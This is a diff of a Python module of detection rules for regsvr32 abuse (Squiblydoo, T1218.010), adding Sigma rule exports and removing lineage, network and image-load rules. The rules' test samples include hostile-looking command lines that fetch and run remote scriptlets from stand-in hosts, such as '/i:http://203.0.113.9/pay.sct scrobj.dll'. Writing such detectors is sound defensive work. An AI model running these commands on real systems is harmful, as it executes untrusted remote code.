@@ -1,70 +1,14 @@
-"""The rules, each declared once next to its check (see registry.py for the declaration form).
-
-Checks read parsed parts only: the Invocation's targets, flags and anomalies, never raw
-substrings of the command line. Sources name the seed analytics and public rules a rule
-reproduces (ids as in research/detections.md: Sigma, Splunk ESCU, Elastic, MITRE CAR) and
-the logic ids L01-L34 of that survey.
+"""Rules that read regsvr32's parsed command line (scope COMMAND_LINE): the check gets the
+Invocation alone, so its answer is remembered per command line.
 """
 import re
 
-from . import cmdline, winpath
-from .fields import (DNS, FILE, IMAGE_LOAD, NETWORK, PERSISTENCE, PROCESS, REGISTRY,
-                     REMOTE_THREAD, REGSVR32)
-from .registry import COMMAND_LINE, actor, any_event, child, finish, relaunch, rule
+from .. import winpath
+from ..registry import COMMAND_LINE, rule
+from ..sigma_spec import CLI, IMG, not_exportable, spec
+from .tables import T, _clip, _where
 
-T = "T1218.010"
-
-
-# ---------------------------------------------------------------------------------------
-# Tables the checks read. Names are lower-case file names.
-
-SCRIPT_PARENTS = frozenset(("mshta.exe", "wscript.exe", "cscript.exe"))
-# Shells and runtimes that deployment tools, package managers and desktop applications use to
-# run regsvr32 every day (Intune, PSAppDeployToolkit, Chocolatey, scoop; Java desktop programs).
-RUNTIME_PARENTS = frozenset(("powershell.exe", "pwsh.exe", "powershell_ise.exe", "java.exe",
-                             "javaw.exe"))
-OFFICE_PARENTS = frozenset((
-    "winword.exe", "excel.exe", "powerpnt.exe", "outlook.exe", "onenote.exe", "onenotem.exe",
-    "onenoteim.exe", "msaccess.exe", "mspub.exe", "visio.exe", "eqnedt32.exe", "wordpad.exe",
-    "wordview.exe"))
-# Servers and remote-execution hosts that have no business starting regsvr32
-# (Splunk LOLBAS-spawn family, Sigma 8a582fe2 and the "suspicious child of X" rules).
-SERVER_PARENTS = frozenset((
-    "wmiprvse.exe", "wsmprovhost.exe", "winrshost.exe", "mmc.exe", "services.exe", "svchost.exe",
-    "w3wp.exe", "httpd.exe", "nginx.exe", "tomcat.exe", "tomcat9.exe",
-    "sqlservr.exe", "sqlagent.exe", "hh.exe", "msdt.exe", "sdiagnhost.exe", "fodhelper.exe",
-    "3cxdesktopapp.exe", "pc-app.exe", "node.exe", "umworkerprocess.exe", "wlsvc.exe",
-    "spoolsv.exe", "taskeng.exe", "taskhostw.exe"))
-SUSPICIOUS_CHILDREN = frozenset((
-    "calc.exe", "cmd.exe", "powershell.exe", "pwsh.exe", "cscript.exe", "wscript.exe",
-    "mshta.exe", "rundll32.exe", "net.exe", "net1.exe", "nltest.exe", "whoami.exe", "notepad.exe",
-    "reg.exe", "schtasks.exe", "explorer.exe", "werfault.exe", "certutil.exe", "bitsadmin.exe",
-    "msbuild.exe", "installutil.exe", "regasm.exe", "regsvcs.exe", "wmic.exe", "curl.exe",
-    "ipconfig.exe", "systeminfo.exe", "tasklist.exe", "nslookup.exe", "sc.exe", "at.exe"))
-# Where Windows itself keeps regsvr32.exe (Sigma e4a6b256).
-REGSVR32_HOMES = tuple(":\\" + home + "\\" for home in (
-    "windows\\system32", "windows\\syswow64", "windows\\winsxs", "windows\\softwaredistribution",
-    "windows\\systemtemp", "windows\\uus", "windows\\system", "$windows.~bt", "$winreagent"))
-TRUSTED_SIGNATURE_STATUS = frozenset(("errorchaining", "errorcode_endpoint", "errorexpired", "expired",
-                                      "trusted", "valid"))
-SCRIPT_RUNTIMES = frozenset(("scrobj.dll",))
-CLR_MODULES = frozenset(("clr.dll", "mscoree.dll", "mscorlib.dll", "mscorlib.ni.dll",
-                         "clrjit.dll"))
-# Extensions an image load by regsvr32 may legitimately have (Elastic EP 76da5dca).
-LOADABLE_EXTS = winpath.MODULE_EXTS | frozenset((
-    "exe", "tlb", "scr", "mui", "ime", "tsp", "rbf", "whl", "drv", "acm", "tmp", "nls", "winmd",
-    "sys"))
-# System32 programs that load the scriptlet runtime for a living (Elastic 4ed678a9).
-SCROBJ_HOSTS = frozenset((
-    "cscript.exe", "wscript.exe", "msiexec.exe", "smartscreen.exe", "taskhostw.exe", "w3wp.exe",
-    "mshta.exe", "mobsync.exe", "cmd.exe", "openwith.exe", "wmiadap.exe", "powershell.exe",
-    REGSVR32))
-PERSISTENCE_TOOLS = frozenset(("schtasks.exe", "reg.exe", "sc.exe"))
-_AUTORUN_KEYS = ("\\currentversion\\run", "\\currentversion\\policies\\explorer\\run",
-                 "\\winlogon\\", "\\currentversion\\runservices", "\\image file execution options\\",
-                 "\\imagepath", "\\command\\(default)")
 _MODIFIER_LETTERS = re.compile("[\u02b0-\u02ff\u1d2c-\u1dbf]")
-REMCOS_CLSID = "{89565275-a714-4a43-912e-978b935edccc}"
 
 
 # ---------------------------------------------------------------------------------------
@@ -74,35 +18,9 @@ def _role(target, inv):
     return "scriptlet (/i:)" if target is inv.install else "module"
 
 
-def _where(target):
-    return "%s: %s" % (target.location, target.where) if target.where else target.location
-
-
 def _first(inv, aspect, value):
     """The first target (or module) of the command line with this aspect, or None."""
     return inv.first.get((aspect, value))
-
-
-def _parent_in(ev, table, what):
-    if ev.parent_name in table:
-        return "started by %s %s" % (what, ev.parent_image or ev.parent_name)
-    return None
-
-
-def _connection(ev, public):
-    if ev.initiated.lower() == "false":
-        return None
-    ip, _ = winpath.parse_ip(ev.dest_ip)
-    if ip is None or winpath.is_public(ip) != public:
-        return None
-    where = "public" if public else "non-public (private, loopback or reserved)"
-    return "regsvr32 connected to %s address %s%s" % (
-        where, ip, (":" + ev.dest_port) if ev.dest_port else "")
-
-
-def _clip(text, n=160):
-    text = " ".join(text.split())
-    return text if len(text) <= n else text[:n - 3] + "..."
 
 
 @rule("R32-001", "Scriptlet run through scrobj.dll (Squiblydoo)",
@@ -129,7 +47,12 @@ def _clip(text, n=160):
       negatives=(
         "regsvr32 /s scrobj.dll",
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        "regsvr32 /s C:\\Users\\Public\\a.sct C:\\Windows\\System32\\msxml6.dll",))
+        "regsvr32 /s C:\\Users\\Public\\a.sct C:\\Windows\\System32\\msxml6.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_cli": {"CommandLine|windash|contains": " -i:",
+                                                          "CommandLine|contains": "scrobj"}},
+                 "selection_img and selection_cli",
+                 CLI + " an /i: switch and 'scrobj' anywhere, not scrobj.dll as the module"))
 def squiblydoo(inv):
     scrobj = ("module name", "scrobj.dll") in inv.first
     if inv.install_arg is None:
@@ -158,7 +81,11 @@ def squiblydoo(inv):
         "regsvr32 /u /i:file://files.example.org/share/a.sct scrobj.dll",),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        "regsvr32 /s /n /i:user C:\\x\\a.dll",))
+        "regsvr32 /s /n /i:user C:\\x\\a.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_cli": {
+                     "CommandLine|contains": ["http://", "https://", "ftp://", "file://"]}},
+                 "selection_img and selection_cli", CLI + " a URL anywhere, not as a target"))
 def remote_url(inv):
     t = _first(inv, "kind", "url")
     if t is None:
@@ -179,7 +106,13 @@ def remote_url(inv):
         "regsvr32 /s \\\\192.0.2.44\\share\\x.dll",),
       negatives=(
         "regsvr32 /s /u /i:http://7zip.example.com/a.sct scrobj.dll",
-        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",))
+        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_cli": {"CommandLine|re":
+                  r"(?i)(?:(?:https?|ftp)://|\\\\)(?:\[[0-9a-f:.]+\]|0x[0-9a-f]+|[0-9]+(?:\.(?:0x[0-9a-f]+|[0-9]+)){0,3})(?:[:/\\]|$)"}},
+                 "selection_img and selection_cli",
+                 "a regular expression for IP literals after a scheme or \\\\; the detector "
+                 "decodes every notation inet_aton accepts"))
 def ip_host(inv):
     t = _first(inv, "ip", True)
     if t is None:
@@ -203,7 +136,8 @@ def ip_host(inv):
          "CurrentDirectory": "C:\\ProgramData\\"},),
       negatives=(
         "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
-        'regsvr32 /s /n /i:user "C:\\Program Files\\A\\b.dll"',))
+        'regsvr32 /s /n /i:user "C:\\Program Files\\A\\b.dll"',),
+      sigma=not_exportable("needs to know which module receives the /i: argument (parsed command line)"))
 def renamed_scrobj(inv):
     if inv.install is None or ("module name", "scrobj.dll") in inv.first:
         return None
@@ -224,7 +158,12 @@ def renamed_scrobj(inv):
         "regsvr32 \u2013s \u2013i:x C:\\Tools\\a.dll",),
       negatives=(
         "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
-        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",))
+        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_i": {"CommandLine|windash|contains": " -i"},
+                  "filter_n": {"CommandLine|windash|contains": " -n"}},
+                 "selection_img and selection_i and not filter_n",
+                 "switches found as substrings; the detector reads combined switch groups"))
 def install_without_n(inv):
     if "i" not in inv.flags or "n" in inv.flags:
         return None
@@ -251,7 +190,9 @@ def install_without_n(inv):
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',
         "regsvr32  DevExpress.Data.v14.1.dll",
-        "regsvr32 /s /u C:\\Users\\Public\\x.dll",))
+        "regsvr32 /s /u C:\\Users\\Public\\x.dll",),
+      sigma=not_exportable("needs the module's resolved folder; the image path at the start of the line "
+                           "defeats a substring filter (the flaw of Sigma ce2c44b5)"))
 def silent_register_outside(inv):
     if not inv.flags & {"s", "e"} or inv.flags & {"i", "u"}:
         return None
@@ -298,7 +239,15 @@ USER_FILE_FOLDERS = frozenset(("Downloads", "Desktop", "Documents"))
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',
-        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\App\\shellext.dll",))
+        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\App\\shellext.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_path": {"CommandLine|contains": [
+                     "\\AppData\\", "\\Temp\\", ":\\Users\\Public\\", ":\\ProgramData\\",
+                     "\\Downloads\\", "\\Desktop\\", "\\Documents\\", "\\Pictures\\",
+                     "\\Music\\", "\\Windows\\Tasks\\"]}},
+                 "selection_img and selection_path",
+                 CLI + " the folder; 8.3 names, '..', %VARIABLES% and relative names resolved "
+                 "against the working directory get past it"))
 def user_writable(inv):
     for t in _payloads(inv):
         if t.staging and t.where not in USER_FILE_FOLDERS:
@@ -320,7 +269,9 @@ def user_writable(inv):
         "regsvr32 -s C:\\Windows\\Temp\\payload",),
       negatives=(
         "regsvr32 /s C:\\ProgramData\\x.dll",
-        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',))
+        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',),
+      sigma=not_exportable("needs the module's own extension and folder; any '.dll' in the line defeats a "
+                           "substring match"))
 def writable_non_module(inv):
     # a per-user application folder holds all kinds of files: there, only a disguise counts
     for m in inv.modules:
@@ -344,7 +295,14 @@ def writable_non_module(inv):
         "regsvr32 /s C:\\Windows\\System32\\spool\\drivers\\color\\x.dll",),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',))
+        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_path": {"CommandLine|contains": [
+                     ":\\PerfLogs\\", ":\\Temp\\", "\\Windows\\Tracing\\", "\\Registration\\CRMLog",
+                     "\\System32\\com\\dmp\\", "\\FxsTmp\\", "\\spool\\drivers\\color\\",
+                     "\\spool\\PRINTERS\\", "\\spool\\SERVERS\\", "\\Crypto\\RSA\\MachineKeys\\",
+                     "\\System32\\Tasks\\", "\\$Recycle.Bin\\"]}},
+                 "selection_img and selection_path", CLI + " the folder (as R32-007)"))
 def suspicious_folder(inv):
     for t in _payloads(inv):
         if t.location == winpath.SUSPICIOUS:
@@ -365,7 +323,12 @@ def suspicious_folder(inv):
         'regsvr32 /s "C:\\Users\\alice\\AppData\\Local\\Temp\\shell32.jpg" ',),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        "regsvr32 /s C:\\x\\img.jpg.dll",))
+        "regsvr32 /s C:\\x\\img.jpg.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_ext": {"CommandLine|re":
+                  r"(?i)\.(?:%s)(?:[\"'\s,]|$)" % "|".join(sorted(winpath.DISGUISED_EXTS))}},
+                 "selection_img and selection_ext",
+                 "any argument ending in a disguise extension, not only the module's"))
 def disguised_extension(inv):
     m = inv.first.get(("module ext", winpath.DISGUISED))
     if m is None:
@@ -385,7 +348,8 @@ def disguised_extension(inv):
         "regsvr32 /s x.foo",),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        "regsvr32 /s C:\\Tools\\stage2",))
+        "regsvr32 /s C:\\Tools\\stage2",),
+      sigma=not_exportable("needs the module's own extension (an allowlist of extensions)"))
 def unusual_extension(inv):
     m = inv.first.get(("module ext", winpath.OTHER_EXT))
     if m is None:
@@ -403,7 +367,10 @@ def unusual_extension(inv):
         'regsvr32 /s "\\\\?\\UNC\\host\\share\\x.dll"',),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        "regsvr32 /s \\\\evil.example@SSL\\DavWWWRoot\\x.dll",))
+        "regsvr32 /s \\\\evil.example@SSL\\DavWWWRoot\\x.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_unc": {"CommandLine|re": r"(?:^|[\s\"':])\\\\[^\\\s]"}},
+                 "selection_img and selection_unc", "any \\\\host argument, not only a target"))
 def unc_share(inv):
     t = _first(inv, "kind", "unc")
     if t is None:
@@ -421,213 +388,16 @@ def unc_share(inv):
         "regsvr32 /s \\\\files.example.com@80\\share\\x.dll",),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        "regsvr32 /s \\\\fileserver\\pub\\x.dll",))
+        "regsvr32 /s \\\\fileserver\\pub\\x.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_dav": {"CommandLine|contains": [
+                     "\\DavWWWRoot\\", "@SSL\\", "@SSL@", "@80\\", "@443\\", "@8080\\", "@8443\\"]}},
+                 "selection_img and selection_dav", CLI + " a WebDAV path marker"))
 def webdav(inv):
     t = _first(inv, "kind", "webdav")
     if t is None:
         return None
     return "%s %s is loaded over WebDAV from %s" % (_role(t, inv), _clip(t.path), t.host)
-
-
-@rule("R32-014", "regsvr32 started by a script host",
-      actor(PROCESS), risk=55, family="parent_lineage", evidence="lineage",
-      lowered_by=("windows", "trusted"),
-      techniques=(T, "T1059"),
-      sources=("L14", "Sigma ab37a6ec", "Splunk 4aa5d062", "Splunk 1f35e1da",
-               "Sentinel bef2bd1b"),
-      description=("Parent is mshta, wscript or cscript. cmd.exe is left out (installer batch "
-                   "files start regsvr32 all day) and PowerShell is R32-042."),
-      positives=(
-        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-         "ParentImage": "C:\\Windows\\System32\\mshta.exe"},
-        {"CommandLine": "regsvr32 /s x.dll", "ParentImage": "C:\\Windows\\System32\\wscript.exe"},),
-      negatives=(
-        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-         "ParentImage": "C:\\Windows\\explorer.exe"},
-        {"CommandLine": "regsvr32 /s x.dll",
-         "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},))
-def script_parent(ev):
-    return _parent_in(ev, SCRIPT_PARENTS, "script host")
-
-
-@rule("R32-015", "regsvr32 started by an Office application",
-      actor(PROCESS), risk=75, family="parent_lineage", evidence="lineage",
-      techniques=(T, "T1204.002"),
-      sources=("L15", "Splunk 2d9fc90c", "Sigma 438025f9", "Elastic a624863f", "Sigma e6eb5a96"),
-      description=("Parent is Word, Excel, PowerPoint, Outlook, OneNote, Access, Publisher, "
-                   "Visio or the Equation Editor: a macro or exploit at work."),
-      positives=(
-        {"CommandLine": "regsvr32 -s C:\\Users\\bob\\AppData\\Local\\Temp\\a.ocx",
-         "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"},),
-      negatives=(
-        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",))
-def office_parent(ev):
-    return _parent_in(ev, OFFICE_PARENTS, "Office application")
-
-
-@rule("R32-016", "regsvr32 started by a server or remote-execution host",
-      actor(PROCESS), risk=60, family="parent_lineage", evidence="lineage",
-      lowered_by=("windows",),
-      techniques=(T, "T1047"),
-      sources=("L16", "Splunk 95a455f0", "Splunk ba9e1954", "Splunk 09e5c72a", "Sigma 8a582fe2",
-               "Sigma d52d2e87"),
-      description=("Parent is WmiPrvSE, WsmProvHost, WinRS, services, svchost, MMC, a web, "
-                   "database or Java server, hh, msdt or fodhelper: remote execution, "
-                   "exploitation or a persisted launch rather than an installer."),
-      positives=(
-        {"CommandLine": "regsvr32.exe /i C:\\x.dll",
-         "ParentImage": "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"},
-        {"CommandLine": "regsvr32 /s C:\\inetpub\\a.dll",
-         "ParentImage": "c:\\windows\\system32\\inetsrv\\w3wp.exe"},),
-      negatives=(
-        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-         "ParentImage": "C:\\Windows\\System32\\msiexec.exe"},))
-def server_parent(ev):
-    return _parent_in(ev, SERVER_PARENTS, "server process")
-
-
-@rule("R32-017", "regsvr32 started a shell, script host or reconnaissance tool",
-      child(), risk=80, family="children_of_regsvr32", evidence="behaviour",
-      techniques=(T, "T1059"), sources=("L17", "Veramine", "Sigma 6f0947a4", "Splunk 61490da9"),
-      description=("A child of regsvr32 such as calc, cmd, PowerShell, wscript, mshta, rundll32, "
-                   "net, nltest, whoami, reg, schtasks or explorer: the registered code is "
-                   "running commands."),
-      positives=(
-        {"Image": "C:\\Windows\\System32\\calc.exe",
-         "CommandLine": '"C:\\Windows\\System32\\calc.exe" ',
-         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},
-        {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd.exe /c whoami",
-         "ParentImage": "C:\\Windows\\SysWOW64\\regsvr32.exe"},),
-      negatives=(
-        {"Image": "C:\\Windows\\System32\\calc.exe", "CommandLine": "calc.exe"},
-        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},))
-def suspicious_child(ev):
-    if ev.image_name not in SUSPICIOUS_CHILDREN:
-        return None
-    return "regsvr32 started %s: %s" % (ev.image_name, _clip(ev.command_line or ev.image))
-
-
-@rule("R32-018", "regsvr32 started a child process",
-      child(), risk=50, family="children_of_regsvr32", evidence="behaviour",
-      techniques=(T,), sources=("CAR-2019-04-002", "Veramine", "L17"),
-      description=("Any child of regsvr32 other than regsvr32 itself (the 64-to-32-bit "
-                   "re-launch): registration code rarely starts programs. The default allowlist "
-                   "keeps WerFault crash reporting (-u -p) and wevtutil, as CAR does."),
-      positives=(
-        {"Image": "C:\\Users\\bob\\AppData\\Local\\Temp\\u.exe",
-         "CommandLine": "C:\\Users\\bob\\AppData\\Local\\Temp\\u.exe",
-         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},),
-      negatives=(
-        {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe", "CommandLine": " /s C:\\x\\a.dll",
-         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},
-        {"Image": "C:\\Windows\\System32\\calc.exe", "CommandLine": "calc.exe"},))
-def any_child(ev):
-    if ev.image_name in ("", REGSVR32):
-        return None
-    return "regsvr32 started a child process %s" % (ev.image or ev.image_name)
-
-
-@rule("R32-019", "Renamed regsvr32",
-      actor(PROCESS), risk=80, family="renamed_or_relocated_binary", evidence="identity",
-      techniques=(T, "T1036.003"),
-      sources=("L18", "Splunk 7349a9e9", "Sigma 0ba1da6d", "Elastic EP b0207677"),
-      description=("The file is regsvr32 (OriginalFileName REGSVR32.EXE, or the file description "
-                   "'Microsoft(C) Register Server' where Sysmon logs no OriginalFileName, or, "
-                   "where the log has neither (4688), a command line only regsvr32 takes: a "
-                   "remote /i: scriptlet or scrobj.dll with /i:) but it runs under another name."),
-      positives=(
-        {"EventCode": "4688", "NewProcessName": "C:\\ProgramData\\jabber.exe", "Image": None,
-         "CommandLine": "jabber.exe  /u /s /i:http://pastebin.example/raw/x .\\jabber.dll"},
-        {"Image": "C:\\Users\\Public\\svc.exe",
-         "CommandLine": "svc.exe /s /u /i:http://example.com/a.sct scrobj.dll",
-         "OriginalFileName": "REGSVR32.EXE"},
-        {"Image": "C:\\ProgramData\\jabber.exe",
-         "CommandLine": "jabber.exe  /u /s /i:http://pastebin.example/raw/x .\\jabber.dll",
-         "Description": "Microsoft(C) Register Server"},),
-      negatives=(
-        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-         "OriginalFileName": "REGSVR32.EXE"},
-        {"Image": "C:\\x\\tool.exe", "CommandLine": "C:\\x\\tool.exe",
-         "OriginalFileName": "tool.exe"},))
-def renamed_binary(ev):
-    if not ev.image_name or ev.image_name == REGSVR32:
-        return None
-    if ev.original_file_name.lower() == REGSVR32:
-        evidence = "OriginalFileName %s" % ev.original_file_name
-    elif ev.description:
-        evidence = "file description '%s'" % ev.description
-    else:
-        evidence = "its command line is regsvr32's: %s" % _clip(ev.command_line, 120)
-    return "regsvr32 runs under the name %s (%s)" % (ev.image or ev.image_name, evidence)
-
-
-@rule("R32-020", "regsvr32.exe running from an unexpected folder",
-      actor(PROCESS), risk=70, family="renamed_or_relocated_binary", evidence="identity",
-      techniques=(T, "T1036.005"),
-      sources=("L19", "Sigma e4a6b256", "Splunk 326fdf44", "Elastic EP 35dedf0c",
-               "Sigma 933f0bb5"),
-      description=("An image named regsvr32.exe outside System32, SysWOW64, WinSxS and the "
-                   "Windows servicing folders: a copy planted next to a payload or a look-alike."),
-      positives=(
-        {"Image": "C:\\Users\\Public\\regsvr32.exe",
-         "CommandLine": "C:\\Users\\Public\\regsvr32.exe /c echo scrobj.exe /i:"},),
-      negatives=(
-        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe", "CommandLine": "regsvr32 /s x.dll"},))
-def unexpected_home(ev):
-    # (an image without its folder, or a relative one, is an unknown folder, not an unexpected one)
-    image = ev.image.lower().replace("/", "\\")
-    if ev.image_name != REGSVR32 or not winpath.is_absolute(image) or image.startswith(REGSVR32_HOMES, 1):
-        return None
-    return "regsvr32.exe runs from %s, not from System32 or SysWOW64" % ev.image
-
-
-@rule("R32-021", "regsvr32 connected to a public address",
-      actor(NETWORK), risk=70, family="network", evidence="network",
-      techniques=(T, "T1105"),
-      sources=("L20", "Sigma c7e91a02", "Elastic fb02b8d3", "Splunk 2820f032"),
-      description=("An outbound connection by regsvr32 to an internet address: fetching a "
-                   "scriptlet or talking to a controller."),
-      positives=(
-        {"DestinationIp": "151.101.0.133"},
-        {"DestinationIp": "104.20.208.21", "DestinationPort": "80"},),
-      negatives=(
-        {"DestinationIp": "10.0.2.15"},
-        {"DestinationIp": "151.101.0.133", "Initiated": "false"},))
-def public_connection(ev):
-    return _connection(ev, public=True)
-
-
-@rule("R32-022", "regsvr32 connected to a non-public address",
-      actor(NETWORK), risk=30, family="network", evidence="network",
-      techniques=(T,), sources=("L20", "Sigma c7e91a02"),
-      description=("An outbound connection by regsvr32 to a private, loopback, link-local or "
-                   "reserved address: internal staging servers and lateral movement; lower risk "
-                   "than a public one."),
-      positives=(
-        {"DestinationIp": "10.1.2.3", "DestinationPort": "445"},),
-      negatives=(
-        {"DestinationIp": "151.101.0.133"},))
-def private_connection(ev):
-    return _connection(ev, public=False)
-
-
-@rule("R32-023", "regsvr32 resolved a host name",
-      actor(DNS), risk=50, family="network", evidence="network",
-      techniques=(T, "T1105"), sources=("L20", "Sigma 36e037c4", "Elastic 1fe3b299"),
-      description=("A DNS query by regsvr32 (Sysmon 22). The default allowlist keeps certificate "
-                   "revocation and OCSP hosts."),
-      positives=(
-        {"QueryName": "raw.githubusercontent.com"},),
-      negatives=(
-        {"Image": "C:\\Windows\\System32\\svchost.exe", "QueryName": "regsvr32.example"},))
-def dns_query(ev):
-    if not ev.query_name:
-        return None
-    return "regsvr32 looked up %s" % ev.query_name
 
 
 @rule("R32-024", "regsvr32 run with no arguments",
@@ -644,289 +414,17 @@ def dns_query(ev):
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         {"EventCode": "4688", "NewProcessName": "C:\\Windows\\System32\\regsvr32.exe",
-         "CommandLine": "", "Image": None, "ParentImage": None},))
+         "CommandLine": "", "Image": None, "ParentImage": None},),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_cli": {"CommandLine|re":
+                  r"(?i)^\s*\"?[^\"]*regsvr32(?:\.exe)?\"?\s*$"}},
+                 "selection_img and selection_cli",
+                 "a regular expression for a command line that is only the program"))
 def no_arguments(inv):
     if not inv.program or inv.args:
         return None
     return "regsvr32 ran with no arguments (%s): a sacrificial process for injected code" % (
         _clip(inv.line))
-
-
-# Publishers of endpoint security products whose hook DLLs every process loads (Sysmon's
-# Signature, lower case, as it starts). Not Microsoft: Defender's own folders are ACL-protected
-# and trusted by location (winpath), and a Microsoft-signed DLL copied elsewhere is side-loading.
-SECURITY_SIGNERS = (
-    "crowdstrike", "sentinelone", "sentinel labs", "sophos", "symantec", "broadcom", "mcafee",
-    "trellix", "trend micro", "eset", "kaspersky", "bitdefender", "palo alto networks",
-    "cylance", "blackberry", "carbon black", "vmware, inc.", "cisco systems", "malwarebytes",
-    "avast", "avg technologies", "gen digital", "f-secure", "withsecure", "check point",
-    "fortinet", "cybereason", "elasticsearch", "tanium", "webroot", "panda security",
-    "g data", "deep instinct", "huntress", "rapid7", "qualys", "trustwave", "harfanglab",
-    "secureworks", "morphisec", "cynet", "opentext")
-
-
-def _security_product_hook(ev):
-    """A validly signed security vendor's module loaded from a folder of its own (not a staging,
-    suspicious or network folder): the product's hook in every process, context not evidence."""
-    if ev.signed.lower() != "true" or ev.signature_status.lower() not in ("valid", "trusted"):
-        return False
-    t = ev.loaded
-    if t.staging or t.location in (winpath.SUSPICIOUS, winpath.NETWORK, winpath.UNKNOWN):
-        return False
-    signer = ev.signature.lower()
-    return any(signer.startswith(name) for name in SECURITY_SIGNERS)
-
-
-@rule("R32-025", "regsvr32 loaded an unsigned module from outside Windows and Program Files",
-      actor(IMAGE_LOAD), risk=70, family="image_loads", evidence="load",
-      techniques=(T,), sources=("CAR-2019-04-002", "Veramine", "L22"),
-      description=("Sysmon image load: Signed=false and the module is not under Windows or "
-                   "Program Files (the seed analytics' unsigned-load logic)."),
-      positives=(
-        {"ImageLoaded": "C:\\AtomicRedTeam\\atomics\\T1218.010\\bin\\AllTheThingsx86.dll",
-         "Signed": "false", "SignatureStatus": "Unavailable", "Signature": ""},),
-      negatives=(
-        {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
-        {"ImageLoaded": "C:\\Program Files\\K-Lite Codec Pack\\Filters\\x.ax", "Signed": "false",
-         "SignatureStatus": "Unavailable", "Signature": ""},))
-def unsigned_outside(ev):
-    if ev.signed.lower() != "false":
-        return None
-    t = ev.loaded
-    if t.location in winpath.TRUSTED_LOCATIONS:
-        return None
-    return "regsvr32 loaded the unsigned module %s (%s)" % (ev.image_loaded, t.where or t.location)
-
-
-@rule("R32-026", "regsvr32 loaded a module without a trusted signature",
-      actor(IMAGE_LOAD), risk=45, family="image_loads", evidence="load",
-      techniques=(T,), sources=("L22", "Sigma b5de0c9a"),
-      description=("Sysmon image load whose Signed is not true and whose SignatureStatus is not "
-                   "Valid/Trusted/expired/chaining (Sigma b5de0c9a), wherever the module is."),
-      positives=(
-        {"ImageLoaded": "C:\\Program Files\\Vendor\\x.dll", "Signed": "false",
-         "SignatureStatus": "Unavailable", "Signature": ""},),
-      negatives=(
-        {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
-        {"ImageLoaded": "C:\\Program Files\\Vendor\\x.dll", "Signed": "false",
-         "SignatureStatus": "Expired", "Signature": ""},))
